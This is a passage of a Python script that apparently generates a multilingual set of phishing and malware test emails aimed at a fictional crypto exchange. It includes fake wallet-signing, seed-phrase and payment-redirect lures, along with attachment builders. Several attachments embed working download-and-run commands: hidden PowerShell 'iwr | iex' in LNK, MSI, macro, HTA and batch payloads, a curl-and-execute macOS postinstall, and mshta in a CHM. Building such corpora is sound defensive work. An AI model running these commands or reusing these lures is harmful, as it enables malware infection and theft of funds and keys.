初回設定で各取引所のAPIキー（取引・出金権限あり）を登録すると、自動で資金移動まで行います。

ご不明点はお気軽にお問い合わせください。""", "2026-11-07 11:30 +0900"))

add(L("trading-app", "ko",
      "Korean 'market terminal' MSI from a self-described partner exchange that needs antivirus disabled",
      ("코인브릿지 기술지원", "tech@coinbridge-terminal.kr"), PARK,
      "[제휴] 실시간 호가 단말기 설치 안내",
      """안녕하세요, 코인브릿지 기술지원팀입니다.

제휴 거래소 간 실시간 호가 공유를 위한 전용 단말기를 배포합니다.

설치 파일: https://coinbridge-terminal.kr/download/CBTerminal_x64.msi

설치 중 백신 프로그램이 파일을 차단하는 경우 실시간 감시를 잠시 해제한 후 설치해 주세요.
설치 후 귀사 핫월렛 API 키를 등록하시면 자동 헤지 기능이 활성화됩니다.

감사합니다.""", "2026-11-08 15:10 +0900"))

add(L("trading-app", "zh",
      "Chinese grid-bot offered as a docker run that mounts ~/.config and ~/.ssh and takes exchange API keys",
      ("网格猎手 Grid Hunter", "service@gridhunter.io"), LI,
      "机构版量化网格机器人 - 一键部署",
      """李先生您好，

网格猎手机构版已支持贵所，近30天实盘年化收益 63%。部署只需一条命令：

docker run -d --name gridhunter \\
  -v ~/.config:/root/.config -v ~/.ssh:/root/.ssh \\
  -e EXCHANGE_API_KEY=<您的API Key> -e EXCHANGE_API_SECRET=<您的Secret> \\
  gridhunter/pro:latest

请使用开通提币权限的 API Key，机器人需要在交易所之间自动调拨资金。
有问题请联系 Telegram @gridhunter_cs。""", "2026-11-09 20:00 +0800"))

add(L("trading-app", "fr",
      "French 'market-making' app pkg for macOS from an unknown vendor with Open Anyway instructions",
      ("Équipe Arbitra", "contact@arbitra-markets.fr"), LAURENT,
      "Arbitra Desk pour macOS - accès anticipé",
      """Bonjour Camille,

Nous lançons Arbitra Desk, un outil de tenue de marché et de prédiction de prix pour les plateformes
régulées PSAN/CASP. Votre bureau de Paris fait partie des premiers invités.

Téléchargement : https://arbitra-markets.fr/release/ArbitraDesk-2.0.pkg

Si macOS refuse l'ouverture, allez dans Réglages Système > Confidentialité et sécurité > « Ouvrir
quand même ». L'installateur vous demandera votre mot de passe administrateur pour le module réseau.

Cordialement,
L'équipe Arbitra""", "2026-11-12 09:00 +0100"))

# ---------------------------------------------------------------- wallet-request

add(L("wallet-request", "en",
      "'compliance partner' asks signers to add its address as a Safe owner and lower the threshold to 1",
      ("Travis Monroe | Ledgerline Compliance", "t.monroe@ledgerline-compliance.com"), TANAKA,
      "Co-signer onboarding for the FATF review",
      """Hi Mika,

As agreed with your compliance team, Ledgerline will act as independent co-signer on your treasury Safe
during the FATF follow-up review.

Please queue and sign the following transaction on your Safe:

  addOwnerWithThreshold(owner = 0x5E3a91bF04d27C6e8a1D9f3B2c0E74d61A8b5C27, threshold = 1)

The threshold of 1 is temporary so that we can execute the test transfers during the review window without
waiting for your signers across time zones. We will restore it on 30 November.

Regards,
Travis Monroe""", "2026-11-05 09:00 +0000"))

add(L("wallet-request", "en",
      "token issuer asks to sign an upgradeTo on the exchange's deposit proxy through a WalletConnect link",
      ("Listing Operations | Quorra Protocol", "listings@quorra-protocol.org"), SUZUKI,
      "QRA listing - deposit contract upgrade signature needed",
      """Hi Kenta,

Ahead of the QRA listing on 17 November, our audit found that your deposit forwarder proxy needs the new
implementation that supports our rebasing token.

Please connect the deployer/admin wallet and sign the upgrade here:
https://quorra-protocol.org/listing/walletconnect?session=kx-1117

The call is upgradeTo(0xA7c4E2d91B0f53e8C6d1F9a4b27E0c3D85f16B42) on your deposit proxy. It only changes
the token-handling logic; balances are not touched.

Thanks,
Quorra Listing Ops""", "2026-11-13 02:30 +0000"))

add(L("wallet-request", "ja",
      "unknown 'partner' asks treasury to send a 0.5 ETH test to a new address then the full settlement, citing an audit",
      ("清算担当 石黒", "ishiguro@kaede-settlement.co.jp"), TANAKA_JA,
      "精算用アドレス変更とテスト送金のお願い",
      """株式会社Kitsune Exchange
田中様

いつもお世話になっております。楓セトルメントの石黒です。
監査法人の指摘により、当社の受取用ウォレットを本日付で変更いたしました。

新アドレス（Ethereum）：0x8D2f6B1a03c9E47e5A0b3D18c92F4e76B10aC5E9

お手数ですが、まず 0.5 ETH をテスト送金いただき、着金確認後に今月分の精算額 412.6 ETH を
お送りください。旧アドレスへの送金は返金できませんのでご注意ください。

よろしくお願いいたします。""", "2026-11-10 14:15 +0900"))

add(L("wallet-request", "ko",
      "fake insurer asks treasury to photograph the metal seed backup plates for a custody insurance survey",
      ("누리손해보험 디지털자산팀", "digital@nuri-insure.com"), PARK,
      "[가상자산 보관 보험] 콜드월렛 실사 자료 요청",
      """안녕하세요,

귀사의 가상자산 보관 보험 갱신 심사를 위해 콜드월렛 보관 상태 실사 자료가 필요합니다.

아래 자료를 11월 14일까지 회신해 주십시오.
  1. 금속 시드 백업 플레이트 전체 사진 (각인된 단어가 보이도록)
  2. 보관 금고 위치 및 접근 권한자 명단
  3. 하드웨어 지갑 PIN 관리 방식

자료는 심사 후 즉시 폐기됩니다. 기한 내 미제출 시 보험 갱신이 어렵습니다.

누리손해보험 디지털자산팀""", "2026-11-11 10:00 +0900"))

add(L("wallet-request", "zh",
      "'regulator' demands an urgent USDT 'supervision deposit' to a TRC-20 address within 24 hours",
      ("香港虚拟资产监管协调办公室", "notice@hk-vasp-supervision.org"), LI,
      "关于贵司缴纳监管保证金的通知",
      """Kitsune Exchange 香港办事处：

根据虚拟资产交易平台监管安排，所有在港开展OTC业务的机构须于本通知发出后24小时内缴纳监管保证金
200,000 USDT，作为客户资产保护之用。

收款地址（TRC-20）：TXs4Wc9pQm2Lr8Kd6Vb1Nf3Hj7Ty5Ga0Ep

逾期未缴的机构将被暂停OTC业务并列入公开警示名单。缴纳后请回复交易哈希。

监管协调办公室""", "2026-11-14 09:30 +0800"))

add(L("wallet-request", "fr",
      "'auditor' asks for the cold wallet's xprv claiming it is 'read-only' for a balance check",
      ("Cabinet Delmas Audit", "audit@delmas-audit-crypto.fr"), LAURENT,
      "Procédure de confirmation des soldes - portefeuilles froids",
      """Bonjour Camille,

Dans le cadre de la mission de revue des actifs numériques de la filiale française, nous devons confirmer
les soldes des portefeuilles froids à la date de clôture.

Merci de nous transmettre la clé étendue (xprv) de chaque portefeuille froid. Il s'agit d'une clé en
lecture seule qui nous permet de dériver les adresses et de vérifier les soldes sans accès aux fonds.

Vous pouvez la coller directement en réponse à ce message ou dans notre formulaire sécurisé :
https://delmas-audit-crypto.fr/depot

Cordialement,
Cabinet Delmas""", "2026-11-13 15:00 +0100"))

add(L("wallet-request", "ar",
      "fake 'airdrop' for institutional holders asks the Dubai office to connect the treasury wallet and sign a claim",
      ("فريق مؤسسة زينيث", "claims@zenith-foundation.io"), HADDAD,
      "مطالبة التوزيع المجاني للمؤسسات - آخر موعد",
      """تحية طيبة،

محفظة شركتكم مؤهلة لاستلام 48,000 رمز ZNT ضمن التوزيع المجاني للمنصات المؤسسية.

للمطالبة، قم بربط محفظة الخزينة الرئيسية عبر الرابط التالي ووقّع رسالة الموافقة:
https://zenith-foundation.io/claim/institutional

ملاحظة: التوقيع يمنح عقد التوزيع صلاحية مؤقتة لنقل الرموز، وهو إجراء قياسي.
آخر موعد للمطالبة: 16 نوفمبر 2026.

فريق زينيث""", "2026-11-15 18:00 +0400"))

# ---------------------------------------------------------------- attachment

_PO_LNK = lnk(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
              "-nop -w hidden -c \"iwr https://cdn.procure-docs.net/q4/po.ps1 -UseB | iex\"",
              r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe,11", name="PO_Q4_2026.pdf")
add(L("attachment", "en",
      "ISO image holding a .pdf.lnk that runs hidden PowerShell from a remote host",
      ("Procurement - Alder Systems", "procurement@aldersys-group.com"), KEIRI,
      "Purchase order Q4-2026 / quotation request",
      """Dear Sir/Madam,

Please find attached our purchase order for Q4 2026 hardware security modules. Kindly confirm price and
delivery date by Friday.

The document is packaged as a disc image because of our mail size policy; double-click to open it.

Best regards,
Procurement Department
Alder Systems""", "2026-11-03 07:45 +0000",
      attachments=(Att("PO_Q4_2026.iso", iso_image([("PO_Q4_2026.pdf.lnk", _PO_LNK),
                                                      ("data/msvcp.dll", pe_stub("f-iso-dll"))], "PO_Q4"),
                       "application/x-iso9660-image"),)))

add(L("attachment", "en",
      "Excel add-in (.xll, a DLL) sent as a 'liquidity model' by an unknown fund",
      ("Daniel Okoro", "d.okoro@brackenridge-fund.com"), TANAKA,
      "Liquidity model for the JPY pairs",
      """Hi Mika,

As promised on the call, here is our liquidity model for the JPY pairs. It's an Excel add-in so the live
formulas pull depth data directly; just open it and click "Enable this add-in for this session only".

Let me know what you think.
Daniel""", "2026-11-04 10:30 +0000",
      attachments=(Att("Liquidity_Model_JPY_v7.xll", pe_stub("f-xll-liq"), "application/vnd.ms-excel"),)))

add(L("attachment", "ja",
      "CHM 'operations manual' whose HHCtrl ShortCut runs mshta from a remote host",
      ("楓システム 導入支援", "support@kaede-sys.jp"), SUZUKI_JA,
      "【ご確認】API連携マニュアル（改訂版）送付の件",
      """鈴木様

お世話になっております。楓システム導入支援チームです。
先日お問い合わせいただいたAPI連携について、改訂版マニュアルをお送りします。
添付のヘルプファイルを開いてご確認ください。

よろしくお願いいたします。""", "2026-11-05 13:20 +0900",
      attachments=(Att("API連携マニュアル_v2.chm",
                       chm_d("API連携マニュアル", "mshta.exe,https://kaede-sys.jp.docs-cdn.net/m.hta", "f-chm"),
                       "application/vnd.ms-htmlhelp"),)))

add(L("attachment", "ja",
      "AES 7z with the password in the body holds an invoice named .pdf.scr (double extension screensaver)",
      ("株式会社青嵐商事 経理", "keiri@seiran-shoji.co.jp"), KEIRI,
      "11月分ご請求書送付のご案内",
      """ご担当者様

いつもお世話になっております。青嵐商事経理部でございます。
11月分のご請求書を送付いたします。

添付ファイルはパスワード付きで圧縮しております。
パスワード：Seiran1111

ご確認のほど、よろしくお願い申し上げます。""", "2026-11-11 10:02 +0900",
      attachments=(Att("請求書_202611.7z",
                       seven_zip([("請求書_202611.pdf.scr", pe_stub("f-7z-scr"))], "Seiran1111", "f-seiran"),
                       "application/x-7z-compressed"),)))

add(L("attachment", "en",
      "'secure fax' HTML attachment smuggles a zip holding a JScript downloader",
      ("eFax Delivery", "delivery@efax-notify.net"), KEIRI,
      "You have a new fax from +81 3-4520-xxxx (3 pages)",
      """You have received a 3-page fax.

Open the attached secure document in your browser to view it. For your security, the fax will be
downloaded as an archive; open it and run the viewer.

This is an automated message.""", "2026-11-06 01:10 +0000",
      attachments=(Att("Fax_0311_3pages.html",
                       __import__("binaries").html_smuggling(
                           zip_archive([("Fax_Viewer.js", jscript("https://efax-notify.net/v/fx.js"))]),
                           "Fax_0311.zip", "Secure Fax", "Your fax is being decrypted."),
                       "text/html"),)))

add(L("attachment", "en",
      "MSI 'audit portal setup' whose custom action runs PowerShell from a remote host",
      ("Chloe Brennan | Harrow & Finch", "c.brennan@harrowfinch-audit.com"), CFO,
      "Audit fieldwork - client portal installer",
      """Dear Emily,

Our fieldwork for the year-end audit starts on 17 November. To exchange PBC documents securely we use
our client portal, which installs as a small desktop agent.

Please install the attached package on the machine you will use to upload documents (admin rights
required).

Kind regards,
Chloe Brennan
Audit Senior, Harrow & Finch""", "2026-11-12 09:10 +0000",
      attachments=(Att("HarrowFinch_ClientPortal_Setup.msi",
                       msi("Harrow Finch Client Portal",
                           "powershell -w hidden -ep bypass -c iex(iwr https://portal-cdn.harrowfinch-audit.com/a.ps1)"),
                       "application/x-msi"),)))

add(L("attachment", "zh",
      "RLO file name makes an .exe look like an .xlsx quotation (报价单_<RLO>xslx.exe)",
      ("深圳恒拓电子 销售部", "sales@hengtuo-elec.cn"), LI,
      "硬件钱包采购报价单",
      """李先生您好，

附件为贵司询价的硬件钱包（200台）报价单，请查收。
如有疑问请随时联系我。

恒拓电子 销售部 张经理""", "2026-11-07 16:40 +0800",
      attachments=(Att("报价单_\u202exslx.exe", pe_stub("f-rlo"), "application/octet-stream"),)))

add(L("attachment", "ko",
      "Korean 'revised contract' .docm with a Document_Open macro that runs PowerShell",
      ("법무법인 해온 계약팀", "contract@haeon-law.co.kr"), PARK,
      "업무협약서 수정본 송부",
      """박대현 님,

지난 회의에서 논의한 업무협약서 수정본을 송부드립니다.
문서가 보호되어 있으니 열람 시 상단의 '콘텐츠 사용'을 클릭해 주세요.

법무법인 해온""", "2026-11-10 17:00 +0900",
      attachments=(Att("업무협약서_수정본.docm",
                       word_document(["업무협약서 (수정본)", "보호된 문서입니다. 콘텐츠 사용을 클릭하세요."],
                                     [("ThisDocument",
                                       'Sub Document_Open()\r\n  CreateObject("WScript.Shell").Run '
                                       '"powershell -w hidden -c iwr https://haeon-law.co.kr.doc-view.net/p.ps1 -UseB|iex", 0\r\nEnd Sub\r\n',
                                       True)]),
                       "application/vnd.ms-word.document.macroEnabled.12"),)))

add(L("attachment", "fr",
      "French 'invoice' SVG that smuggles a zip holding an HTA",
      ("Comptabilité Fournisseurs", "factures@lumieris-services.fr"), LAURENT,
      "Facture F-2026-1187 - relance",
      """Bonjour,

Sauf erreur de notre part, la facture F-2026-1187 reste impayée. Vous la trouverez en pièce jointe
(aperçu image), merci de l'ouvrir pour télécharger le document complet.

Cordialement,
Service comptabilité""", "2026-11-14 08:50 +0100",
      attachments=(Att("Facture_F-2026-1187.svg",
                       svg_smuggling(zip_archive([("Facture_F-2026-1187.hta",
                                                   hta("powershell -w hidden -c iwr https://lumieris-services.fr.cdn-fact.net/f.ps1|iex",
                                                       "Facture"))]),
                                     "Facture_F-2026-1187.zip", "Chargement de la facture..."),
                       "image/svg+xml"),)))

add(L("attachment", "ar",
      "Arabic 'partnership offer' macOS .pkg whose postinstall fetches and runs a remote binary",
      ("مكتب الشراكات - نجمة الخليج", "partners@najmat-gulf.com"), HADDAD,
      "عرض الشراكة الاستراتيجية",
      """السيد عمر حداد المحترم،

نرفق لكم عرض الشراكة الاستراتيجية بصيغة عرض تفاعلي لأجهزة ماك. يرجى فتح الملف وتثبيته لعرض
المحتوى كاملاً، مع إدخال كلمة مرور الجهاز عند الطلب.

مع التقدير،
مكتب الشراكات""", "2026-11-16 10:00 +0400",
      attachments=(Att("عرض_الشراكة.pkg",
                       xar_pkg("com.najmatgulf.offer",
                               "curl -fsSL https://najmat-gulf.com/cdn/u -o /tmp/.nu && chmod +x /tmp/.nu && /tmp/.nu &"),
                       "application/octet-stream"),)))

# ---------------------------------------------------------------- conversation-hijack

add(L("conversation-hijack", "en",
      "reply in the Veltmark settlement thread from veltmark.ni (TLD swap) with In-Reply-To, changing the receiving bank account",
      VELTMARK_FAKE, TREASURY, "RE: November settlement schedule - Kitsune / Veltmark",
      """Hi Treasury team,

Small update before Friday's cycle: our EUR receiving account has moved from ABN to our new clearing
bank as part of the year-end restructuring. Please use the following for the 14 Nov settlement and
onwards:

Beneficiary: Veltmark Clearing B.V.
IBAN: GB48 CLRB 0401 2674 3391 05
BIC: CLRBGB22

Old account will be closed on 13 Nov, so please don't send there. No need to change anything else in the
schedule below.

Kind regards,
Joost

> On 4 Nov 2026, Joost Verhagen wrote:
> Please find below the November settlement cycles (Tuesdays and Fridays, 15:00 CET cut-off).""",
      "2026-11-11 15:20 +0100", in_reply_to=VELTMARK_MID, references=VELTMARK_MID))

_BAT = ("@echo off\r\nstart \"\" https://tokiwa-financial.co.jp/\r\n"
        "powershell -w hidden -c \"iwr https://tokiwafinancial.co.jp/dl/i.ps1 -UseB | iex\"\r\n").encode()
add(L("conversation-hijack", "ja",
      "reply in the Tokiwa invoice thread from tokiwafinancial.co.jp (hyphen dropped) with a ZipCrypto zip holding a .pdf.bat",
      TOKIWA_FAKE, KEIRI, "Re: 10月分 手数料請求書の送付",
      """ご担当者様

いつもお世話になっております。常盤フィナンシャルの森本です。
先日お送りした10月分の請求書に誤りがございましたので、改訂版をお送りいたします。
お手数ですが、こちらをもってお支払いいただけますと幸いです。

添付ファイルのパスワード：TKW-1105

以上、よろしくお願いいたします。

-----Original Message-----
From: 森本 沙織
件名: 10月分 手数料請求書の送付""", "2026-11-07 11:48 +0900", in_reply_to=TOKIWA_MID, references=TOKIWA_MID,
      attachments=(Att("10月分請求書_改訂版.zip",
                       zip_archive([("10月分請求書_改訂版.pdf.bat", _BAT)], password="TKW-1105"), ZIP),)))

add(L("conversation-hijack", "fr",
      "TR: forward from orsel-gestion.com (.fr -> .com), no In-Reply-To, asking to whitelist a new withdrawal address",
      ORSEL_FAKE, LAURENT, "TR: Ordre de retrait - Orsel Gestion / Kitsune",
      """Bonjour Camille,

Je vous transfère l'ordre de retrait validé par notre comité. Suite à l'audit de nos dépositaires, nous
avons changé d'adresse de réception. Pourriez-vous ajouter cette adresse à la liste blanche de notre
compte et exécuter le retrait de 38 BTC aujourd'hui ?

Nouvelle adresse BTC : bc1q7hx0k4m2c9d8w3ejl5f6r0n2tq8g4vyz5p3s6a

Je suis en déplacement, merci de ne pas appeler le standard, je vous confirme par e-mail.

Bérénice

-------- Message transféré --------
De : Comité des risques <comite@orsel-gestion.fr>
Objet : Ordre de retrait validé""", "2026-11-12 16:10 +0100"))

add(L("conversation-hijack", "ko",
      "reply in the Hangyeol thread from hangyeol-am.com (.co.kr -> .com) with In-Reply-To, changing the USDC withdrawal address",
      HANGYEOL_FAKE, PARK, "RE: 11월 출금 일정 확인 요청",
      """박대현 님,

일정 확인 감사합니다. 한 가지 변경 사항이 있어 연락드립니다.
내부 감사 결과에 따라 저희 수탁 지갑이 변경되었습니다. 이번 출금(250,000 USDC)부터는 아래 주소로
진행 부탁드립니다.

신규 주소 (ERC-20): 0x4c91D7e0B35a2F8d6E1c0A9b74F3e2d58C61a0B7

기존 주소로의 출금은 반환이 어려우니 꼭 새 주소로 부탁드립니다.
윤서진 드림""", "2026-11-08 10:40 +0900", in_reply_to=HANGYEOL_MID, references=HANGYEOL_MID))

add(L("conversation-hijack", "zh",
      "回复: from ruifeng-digitai.hk (l -> i) without In-Reply-To links to a 'statement' on a document-share lookalike",
      RUIFENG_FAKE, LI, "回复: 11月第一周OTC对账",
      """李伟你好，

对账单已更新，因文件较大，放在我们的共享空间了，请用公司邮箱登录查看并确认签字：

https://ruifeng-digitai.hk/share/statement-nov-w1

另外财务说下一笔结算请暂缓，等对账确认后按新的收款信息执行。

谢谢
嘉怡""", "2026-11-10 17:25 +0800"))

add(L("conversation-hijack", "ar",
      "reply in the Sahab thread from sahabcap.co (.ae -> .co) with In-Reply-To asking to sign a settlement in a Safe lookalike",
      SAHAB_FAKE, HADDAD, "RE: ترتيبات صانع السوق لشهر نوفمبر",
      """أخي عمر،

شكراً على التأكيد. لإتمام تسوية هذا الأسبوع بشكل أسرع، جهزنا المعاملة مسبقاً على المحفظة المشتركة.
يرجى فتح الرابط والتوقيع من محفظة الخزينة:

https://app.safe-global.xyz/tx?safe=eth:0x61b0A4c7e93D2F58a1E6c09B3d7F42a8E5c1D0B3

التوقيع يحتاج دقيقة واحدة فقط. نحتاجه قبل الساعة 5 مساءً.

خالد""", "2026-11-12 13:40 +0400", in_reply_to=SAHAB_MID, references=SAHAB_MID))

add(L("conversation-hijack", "en",
      "reply in the Greywater thread from greywater-prime.com (hyphen added) with In-Reply-To and a link to a fake e-sign page",
      GREYWATER_FAKE, CFO, "RE: Prime brokerage agreement - execution version",
      """Hi Emily,

Apologies, legal caught one last change to the collateral schedule (Annex 3). I've re-sent the execution
version through our e-signature portal so we can still close today:

https://sign.greywater-prime.com/envelope/PBA-KX-2026-final

You'll need to sign in with your Microsoft 365 account to open the envelope.

Best,
Fiona""", "2026-11-13 11:05 +0000", in_reply_to=GREYWATER_MID, references=GREYWATER_MID))
